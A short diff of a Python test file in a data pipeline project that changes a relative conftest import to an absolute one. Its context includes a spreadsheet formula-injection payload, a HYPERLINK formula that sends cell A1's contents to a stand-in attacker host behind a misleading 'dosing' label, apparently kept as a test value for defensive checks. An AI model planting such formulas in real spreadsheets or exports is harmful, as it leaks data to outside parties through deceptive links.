@@ -18,8 +18,7 @@ import pandas as pd
 import pytest
 
 from pipeline.contract.tables import ALL_TABLES
-
-from .conftest import DEV
+from tests.conftest import DEV
 
 PIPELINE = str(Path(sys.executable).with_name("pipeline"))
 HYPERLINK = '=HYPERLINK("http://evil.example/?q="&A1,"Click for dosing")'
